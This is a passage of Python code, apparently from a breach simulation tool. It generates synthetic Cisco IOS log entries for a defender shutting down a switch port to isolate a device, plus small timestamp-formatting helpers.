        for i, c in enumerate(["interface GigabitEthernet1/0/15", f"description {self.b.name} (isolated 2025-02-15)",
                               "shutdown"]):
            s.ios(t + (15 + 7 * i) * clock.US, r, "PARSER-5-CFGLOG_LOGGEDCMD",
                  f"User:{self.netadmin}  logged command:{c}",
                  tag)
        down = t + 37 * clock.US
        s.ios(down, r, "LINK-5-CHANGED", "Interface GigabitEthernet1/0/15, changed state to administratively down", tag)
        s.ios(down + clock.US, r, "LINEPROTO-5-UPDOWN", "Line protocol on Interface GigabitEthernet1/0/15, changed "
              "state to down", tag)
        s.ios(down + 40 * clock.US, r, "SYS-5-CONFIG_I", f"Configured from console by {self.netadmin} on vty0 "
              f"({self.jump_ip})", tag)
        self.out.silence[self.b.name] = down
        self.note(down, "isolation", f"device B ({self.b.name}) cut off the network", "defender")
        return down


def _utc(us: int) -> str:
    return clock.sysmon_utc(np.array([us]))[0].as_py()


def _hms(seconds: float) -> str:
    s = int(seconds)
    return f"{s // 3600}:{s // 60 % 60:02d}:{s % 60:02d}"


def _cisco_at(us: int) -> str:
    from breachscope.simulate.noise.devices import hms_jst, login_date

    arr = np.array([us])
    return f"{hms_jst(arr)[0].as_py()} JST {login_date(arr)[0].as_py()}"
